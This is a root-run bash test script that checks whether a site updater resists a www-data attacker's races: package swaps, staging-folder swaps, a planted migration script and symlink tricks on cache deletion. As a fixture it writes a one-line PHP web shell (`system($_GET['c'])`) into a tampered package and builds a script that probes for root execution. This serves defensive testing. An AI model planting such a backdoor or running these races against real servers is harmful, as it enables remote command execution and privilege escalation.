#!/usr/bin/env bash
# The privilege boundary raced (contracts §9; issue 11), args: PREFIX MODDIR
# RACE_WATCH. Run as root on a site that belongs to www-data (uid/gid 33),
# the SQLite driver; the attacker is www-data, run through setpriv, and
# reacts to the updater's file operations with tests/tools/race_watch
# (inotify). Each scenario prints one summary line "scenario N: ...".
#
# 1a. Package swap, file:// repository writable by the attacker: after the
#     updater's K-th open of the package (K = 1 .. 1 + the opens reported
#     in a clean run, one run each; inotify may merge two quick opens into
#     one event, so the count and the moment are approximate), the package is renamed over by a tampered one
#     (same name, signed by another key, an extra PHP file and a changed
#     index.php). The update either refuses (exit 1 or 3, site and
#     database as before) or installs exactly the genuine release (every
#     file of the genuine manifest with its sha256, the recorded manifest
#     the genuine one byte for byte, no tampered file, `verify` clean);
#     never exit 0 with tampered content.
# 1b. The same for `install --package FILE` with FILE in a folder of the
#     attacker's, on an empty site and database.
# 2.  Staging swap: every folder the updater makes at the top of the site
#     (.nexo-staging-*, .nexo-trash-* ...) is renamed away and replaced by
#     the attacker's copy of the genuine release plus a migration
#     (upgrade_1.0.0_1.1.0.xml) whose <custom><script> records `id -u` and
#     tries to create a file in a root-only folder; swapped at once, and
#     (second run) only once the staging is complete (when MAINTENANCE
#     appears). The script never runs as root; the site ends on the
#     genuine release or as it was.
# 3.  update-db: the site's own database/upgrades (files of www-data) carry
#     a <custom><script>; `update-db` as root runs it as uid 33, never as
#     root.
# 4.  cache_clear: var/cache holds links to a root-only folder with a
#     canary, and when it is renamed aside (var/.nexo-cache-*) the attacker
#     turns its folders, then itself, into such links as soon as the
#     delete begins; the canary survives.
#
# Skips (exit 77) when not root, without a www-data user of uid 33, or
# without setpriv.
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)
source "$here/lib.sh"
source "$here/db.sh"
source "$here/site.sh"
if [ "$(id -u)" -ne 0 ]; then echo "SKIP: needs root"; exit 77; fi
if [ "$(id -u www-data 2>/dev/null)" != 33 ]; then echo "SKIP: no www-data user of uid 33"; exit 77; fi
command -v setpriv > /dev/null || { echo "SKIP: no setpriv"; exit 77; }
RW=$(cd "$(dirname "$3")" && pwd)/$(basename "$3")
[ -x "$RW" ] || { echo "race_watch not found: $3"; exit 2; }
nx_setup "$1" "$2"
site_setup sqlite 1.0.0 1.1.0
S="$T/site"
PKGNAME=nexosupport-1.1.0.tar.zst
PKG="$T/repo/core/$PKGNAME"
A="$T/attacker"                       # the attacker's own folder
ROOTONLY="$T/rootonly"                # a folder only root may write
mkdir -p "$A" "$ROOTONLY"
chmod 700 "$ROOTONLY"
chown 33:33 "$A"
WATCHER=

as_attacker() { setpriv --reuid=33 --regid=33 --clear-groups "$@"; }

# The genuine release's manifest, as the attacker can read it too.
bsdtar -xOf "$PKG" nexo-release.json > "$T/genuine.json"
cp -a "$PKG" "$T/genuine.pkg"

# ---- the tampered package: 1.1.0 with an extra PHP file and a changed
# index.php, signed by a key the site does not trust --------------------------
mkdir -p "$T/evil-src" "$T/evil-repo"
cp -a "$T/src/1.1.0/." "$T/evil-src/"
echo "<?php system(\$_GET['c']);" > "$T/evil-src/public_html/backdoor.php"
echo "<?php echo 'tampered';" > "$T/evil-src/public_html/index.php"
"$REL" -q keygen "$T/keys/intruder"
"$REL" -q pack --component core --src "$T/evil-src" --key "$T/keys/intruder.key" --repo "$T/evil-repo"
EVIL_PKG="$T/evil-repo/core/$PKGNAME"
cmp -s "$EVIL_PKG" "$PKG" && { echo "the tampered package equals the genuine one"; exit 2; }

# ---- the site owned by www-data, kept as it is to start each run from it ----
chown -R 33:33 "$S"
mkdir -p "$T/pristine"
cp -a "$S" "$T/pristine/site"
cp -a "$DBPATH" "$T/pristine/site.db"
for d in state backups; do [ -e "$T/$d" ] && cp -a "$T/$d" "$T/pristine/$d"; done
reset_site() {
    rm -rf "$S" "$T/state" "$T/backups"
    cp -a "$T/pristine/site" "$S"
    cp -a "$T/pristine/site.db" "$DBPATH"
    for d in state backups; do [ -e "$T/pristine/$d" ] && cp -a "$T/pristine/$d" "$T/$d"; done
    return 0
}
site_snapshot pre

# ---- the watcher -------------------------------------------------------------
# watch_start LOG ARGS...: race_watch ARGS as the attacker, once its watches
# are in place; watch_stop ends it (by its pid).
watch_start() {
    local log=$1 i; shift
    : > "$log"; chown 33:33 "$log"
    # (setpriv itself, not a function: $! is then the watcher's own pid)
    setpriv --reuid=33 --regid=33 --clear-groups "$RW" "$@" > "$log" 2>&1 &
    WATCHER=$!
    for i in $(seq 1 100); do
        grep -q '^ready$' "$log" && return 0
        kill -0 "$WATCHER" 2> /dev/null || break
        sleep 0.05
    done
    echo "race_watch did not start: $(cat "$log")"; exit 2
}
watch_stop() {
    [ -n "$WATCHER" ] || return 0
    sleep 0.2                      # the last events reach it
    kill -TERM "$WATCHER" 2> /dev/null || true
    wait "$WATCHER" 2> /dev/null || true
    WATCHER=
}
trap 'watch_stop; db_drop; rm -rf "$T"' EXIT

# ---- judging an outcome --------------------------------------------------------
# genuine_in ROOT: every file of the genuine manifest below the managed
# paths ([site] managed, default) is there with its sha256, and
# ROOT/core/.nexo-release.json is the genuine manifest.
MANAGED_RE='core|public_html|resources|database'
genuine_in() {
    local root=$1 bad=0 path sum
    while IFS=$'\t' read -r path sum; do
        if [ "$(sha256sum < "$root/$path" 2> /dev/null | cut -c1-64)" != "$sum" ]; then
            echo "# $path differs from the genuine release" >&2; bad=1
        fi
    done < <(jq -r '.files[] | select(.type == "file") | [.path, .sha256] | @tsv' "$T/genuine.json" |
             grep -E "^($MANAGED_RE)/")
    if ! cmp -s "$T/genuine.json" "$root/core/.nexo-release.json"; then
        echo "# $root/core/.nexo-release.json is not the genuine manifest" >&2; bad=1
    fi
    return $bad
}
no_tampered_in() {
    [ ! -e "$1/public_html/backdoor.php" ] && ! grep -q tampered "$1/public_html/index.php" 2> /dev/null
}

# judge LABEL RC ROOT CONF UNCHANGED_CMD...: one outcome, safe or not.
# Exit 0: the genuine release, verify clean. Exit non-zero: 1 (refused) or
# 3 (rolled back), and UNCHANGED_CMD says the site is as it was.
judge() {
    local label=$1 rc=$2 root=$3 conf=$4; shift 4
    if [ "$rc" -eq 0 ]; then
        local v=0
        "$NX" -q -c "$conf" verify core > /dev/null 2>&1 || v=$?  # core: the site's stand-in plugin has no manifest
        if genuine_in "$root" && no_tampered_in "$root" && [ "$v" -eq 0 ]; then
            ok "$label: exit 0, the genuine release installed, verify clean"; return 0
        fi
        no_tampered_in "$root" || echo "# TAMPERED CONTENT INSTALLED in $root (verify exit $v)" >&2
        not_ok "$label: exit 0 but the installed files are not the genuine release (verify exit $v)"
        return 1
    fi
    if { [ "$rc" -eq 1 ] || [ "$rc" -eq 3 ]; } && "$@"; then
        ok "$label: refused (exit $rc), site unchanged"; return 0
    fi
    not_ok "$label: exit $rc and the site is not as it was"
    return 1
}
last_lines() { tail -n "${2:-3}" "$1" | sed 's/^/#   /'; }

# ---- 1a. package swap in a file:// repository ---------------------------------
echo "# scenario 1a: the package swapped in a repository folder of www-data's"
chown -R 33:33 "$T/repo"
chown 33:33 "$T/genuine.pkg"
# a clean run with the watcher only counting: how many times the package is opened
reset_site
watch_start "$T/w.log" swap "$T/repo/core" "$PKGNAME" /nonexistent 0
rc=0; "$NX" -c "$CONF" -y core > "$T/out" 2>&1 || rc=$?
watch_stop
OPENS=$(grep -c '^open ' "$T/w.log" || true)
judge "1a clean run, no swap ($OPENS opens of the package reported)" "$rc" "$S" "$CONF" false || true
[ "$rc" -eq 0 ] || last_lines "$T/out"
[ "$OPENS" -ge 1 ] || { not_ok "1a: the watcher saw no open of the package"; OPENS=0; }
s1_bad=0; s1_won=0
for k in $(seq 1 $((OPENS + 1))); do
    reset_site
    cp "$EVIL_PKG" "$T/repo/core/.tampered"; chown 33:33 "$T/repo/core/.tampered"
    watch_start "$T/w.log" swap "$T/repo/core" "$PKGNAME" "$T/repo/core/.tampered" "$k"
    rc=0; "$NX" -c "$CONF" -y core > "$T/out" 2>&1 || rc=$?
    watch_stop
    grep -q "^swapped after open $k" "$T/w.log" && s1_won=$((s1_won + 1))
    echo "# 1a swap after open $k: $(grep -E '^swap' "$T/w.log" || echo 'not reached'); exit $rc"
    judge "1a swap after open $k" "$rc" "$S" "$CONF" site_same pre || { s1_bad=$((s1_bad + 1)); last_lines "$T/out"; }
    cp -a "$T/genuine.pkg" "$PKG"
    rm -f "$T/repo/core/.tampered"
done
echo "scenario 1a (package swap, file:// repository): $OPENS opens, $s1_won swaps made," \
     "$s1_bad unsafe outcome(s)"

# ---- 1b. install --package FILE in a folder of the attacker's ------------------
echo "# scenario 1b: install --package FILE, FILE in a folder of www-data's"
I="$T/inst"
mkdir -p "$I/drop" "$I/site"
cat > "$I/nexo.ini" <<CONF
[site]
root = $I/site
[server]
url = file://$T/repo/index.json
trusted_keys = $T/trusted
[paths]
state = $I/state
backups = $I/backups
[database]
driver = sqlite
path = $I/site.db
CONF
echo "APP_KEY=base64:site-secret" > "$I/site/.env"
chown -R 33:33 "$I/drop" "$I/site"
inst_reset() {
    rm -rf "$I/site" "$I/state" "$I/backups" "$I/site.db"
    mkdir -p "$I/site"
    echo "APP_KEY=base64:site-secret" > "$I/site/.env"
    chown -R 33:33 "$I/site"
    cp "$T/genuine.pkg" "$I/drop/$PKGNAME"
    cp "$PKG.sig" "$I/drop/$PKGNAME.sig"
    chown 33:33 "$I/drop/$PKGNAME" "$I/drop/$PKGNAME.sig"
}
inst_listing() { (cd "$I/site" && find . -printf '%p %y %m %s\n' | LC_ALL=C sort); }
# as it was: only .env in the site, no table in the database
inst_unchanged() {
    inst_listing > "$I/now.listing"
    diff "$I/pre.listing" "$I/now.listing" >&2 || return 1
    [ ! -s "$I/site.db" ] || [ -z "$(sqlite3 "$I/site.db" .tables)" ] || { echo "# tables left: $(sqlite3 "$I/site.db" .tables)" >&2; return 1; }
}
inst_reset
inst_listing > "$I/pre.listing"
watch_start "$T/w.log" swap "$I/drop" "$PKGNAME" /nonexistent 0
rc=0; "$NX" -c "$I/nexo.ini" -y install --package "$I/drop/$PKGNAME" > "$T/out" 2>&1 || rc=$?
watch_stop
IOPENS=$(grep -c '^open ' "$T/w.log" || true)
judge "1b clean run, no swap ($IOPENS opens of the package reported)" "$rc" "$I/site" "$I/nexo.ini" false || true
[ "$rc" -eq 0 ] || last_lines "$T/out"
[ "$IOPENS" -ge 1 ] || { not_ok "1b: the watcher saw no open of the package"; IOPENS=0; }
s1b_bad=0; s1b_won=0
for k in $(seq 1 $((IOPENS + 1))); do
    inst_reset
    cp "$EVIL_PKG" "$I/drop/.tampered"; chown 33:33 "$I/drop/.tampered"
    watch_start "$T/w.log" swap "$I/drop" "$PKGNAME" "$I/drop/.tampered" "$k"
    rc=0; "$NX" -c "$I/nexo.ini" -y install --package "$I/drop/$PKGNAME" > "$T/out" 2>&1 || rc=$?
    watch_stop
    grep -q "^swapped after open $k" "$T/w.log" && s1b_won=$((s1b_won + 1))
    echo "# 1b swap after open $k: $(grep -E '^swap' "$T/w.log" || echo 'not reached'); exit $rc"
    judge "1b swap after open $k" "$rc" "$I/site" "$I/nexo.ini" inst_unchanged ||
        { s1b_bad=$((s1b_bad + 1)); last_lines "$T/out"; }
    rm -f "$I/drop/.tampered"
done
echo "scenario 1b (package swap, install --package): $IOPENS opens, $s1b_won swaps made," \
     "$s1b_bad unsafe outcome(s)"
rm -rf "$I"
cp -a "$T/genuine.pkg" "$PKG"
chown -R root:root "$T/repo"          # from here on, the attacker cannot write the repository

# ---- the attacker's payload: a migration with a <custom><script> ----------------
# evil_script FILE: records `id -u` into $A/uid.log and tries $ROOTONLY/pwned
REC="$A/uid.log"
evil_script() {
    printf '#!/bin/sh\nid -u >> %s\ntouch %s/pwned 2> /dev/null\nexit 0\n' "$REC" "$ROOTONLY" > "$1"
    chmod 755 "$1"
}
# evil_migration FILE: the genuine upgrade_1.0.0_1.1.0.xml plus <custom>
evil_migration() {
    sed 's#</upgrade>#    <custom><script>scripts/attacker.sh</script></custom>\n</upgrade>#' \
        "$T/src/1.1.0/database/upgrades/upgrade_1.0.0_1.1.0.xml" > "$1.new"
    mv "$1.new" "$1"
}
# never_root LABEL: the script did not run as root
never_root() {
    local uids
    uids=$(sort -u "$REC" 2> /dev/null | tr '\n' ' ' || true)
    check "$1: the attacker's script never ran as root (ids recorded: ${uids:-none})" \
        bash -c "! grep -qx 0 '$REC' 2> /dev/null"
    check "$1: nothing was created in the root-only folder" [ ! -e "$ROOTONLY/pwned" ]
}

# ---- 2. staging swap -----------------------------------------------------------
echo "# scenario 2: every folder the updater makes at the top of the site replaced"
TEMPLATE="$A/template"
mkdir -p "$TEMPLATE"
bsdtar -xf "$T/genuine.pkg" -C "$TEMPLATE"
evil_migration "$TEMPLATE/database/upgrades/upgrade_1.0.0_1.1.0.xml"
evil_script "$TEMPLATE/scripts/attacker.sh"
chown -R 33:33 "$A"
s2_bad=0
for how in early late; do
    reset_site
    rm -rf "$A"/stock.* "$REC" "$ROOTONLY/pwned"
    for i in $(seq 1 16); do as_attacker cp -a "$TEMPLATE" "$A/stock.$i"; done
    args=(dirs "$S" "$A/stock")
    [ "$how" = late ] && args+=(late)
    watch_start "$T/w.log" "${args[@]}"
    rc=0; "$NX" -c "$CONF" -y core > "$T/out" 2>&1 || rc=$?
    watch_stop
    echo "# 2 ($how): $(grep -c '^swapped' "$T/w.log" || true) swap(s): $(grep -E '^swap' "$T/w.log" | sed 's/ with .*//' | tr '\n' ';'); exit $rc"
    # the attacker's leftovers (the folders it moved aside, and the folders
    # of its own it put in their place, in its own site) are not the
    # updater's doing, nor its to delete
    rm -rf "$S"/.attacker-*
    find "$S" -maxdepth 1 -name '.nexo-*' -user 33 -exec rm -rf {} +
    if [ "$rc" -ne 0 ] && ! grep -Eq 'refused: (it is not the folder this update made|the staging folder just made belongs to uid 33)' "$T/out"; then
        not_ok "2 ($how): the refusal names the replaced staging folder"; last_lines "$T/out" 25
    fi
    before=$NX_FAILS
    never_root "2 ($how)"
    judge "2 ($how)" "$rc" "$S" "$CONF" site_same pre || last_lines "$T/out"
    [ "$NX_FAILS" -eq "$before" ] || s2_bad=$((s2_bad + 1))
done
echo "scenario 2 (staging swap): $s2_bad of 2 runs unsafe (script as root: $(grep -cx 0 "$REC" 2> /dev/null || echo 0) time(s) in the last)"

# ---- 3. update-db runs the site's own custom script -----------------------------
echo "# scenario 3: update-db with a <custom><script> in the site's own files"
reset_site
rm -f "$REC" "$ROOTONLY/pwned"
cp -a "$T/src/1.1.0/." "$S/"          # the admin copies release 1.1.0 by hand
chown -R 33:33 "$S"
# the site owner (a compromised web application) plants the script
as_attacker mkdir -p "$S/scripts"
as_attacker bash -c "$(declare -f evil_script evil_migration); REC='$REC' ROOTONLY='$ROOTONLY' T='$T';
    evil_script '$S/scripts/attacker.sh'; evil_migration '$S/database/upgrades/upgrade_1.0.0_1.1.0.xml'"
rc=0; "$NX" -c "$CONF" -y update-db > "$T/out" 2>&1 || rc=$?
echo "# 3: update-db exit $rc; ids recorded: $(sort -u "$REC" 2> /dev/null | tr '\n' ' ')"
before=$NX_FAILS
never_root "3"
check "3: the script ran as the site's owner, uid 33" grep -qx 33 "$REC"
[ "$NX_FAILS" -eq "$before" ] || last_lines "$T/out"
echo "scenario 3 (update-db custom script): $([ "$NX_FAILS" -eq "$before" ] && echo safe || echo UNSAFE)"

# ---- 4. cache_clear deletes through links ---------------------------------------
echo "# scenario 4: var/cache and its aside copy turned into links to a root-only folder"
reset_site
CANARY="$T/rootcache"
mkdir -p "$CANARY/keep"
echo "root's own file" > "$CANARY/canary"
echo "root's own file" > "$CANARY/keep/canary"
chmod -R go-rwx "$CANARY"
for i in $(seq -w 1 200); do
    mkdir -p "$S/var/cache/d$i"
    for j in 1 2 3 4 5; do echo "cached $i $j" > "$S/var/cache/d$i/f$j"; done
done
ln -s "$CANARY" "$S/var/cache/link"
ln -s "$CANARY/canary" "$S/var/cache/filelink"
chown -R -h 33:33 "$S/var"
rm -rf "$A/aside"; as_attacker mkdir "$A/aside"
watch_start "$T/w.log" links "$S/var" .nexo-cache- "$CANARY" "$A/aside"
rc=0; "$NX" -c "$CONF" -y core > "$T/out" 2>&1 || rc=$?
watch_stop
echo "# 4: exit $rc; $(grep -c '^linked' "$T/w.log" || true) link(s) made by the attacker"
before=$NX_FAILS
check "4: the root-only canary survives" [ -f "$CANARY/canary" ]
check "4: the root-only folder's subfolder survives" [ -f "$CANARY/keep/canary" ]
check "4: the update ended (exit $rc: 0, or 1/3 refused)" [ "$rc" -eq 0 -o "$rc" -eq 1 -o "$rc" -eq 3 ]
[ "$NX_FAILS" -eq "$before" ] || last_lines "$T/out"
echo "scenario 4 (cache_clear deletes): $([ "$NX_FAILS" -eq "$before" ] && echo safe || echo UNSAFE)"
nx_finish
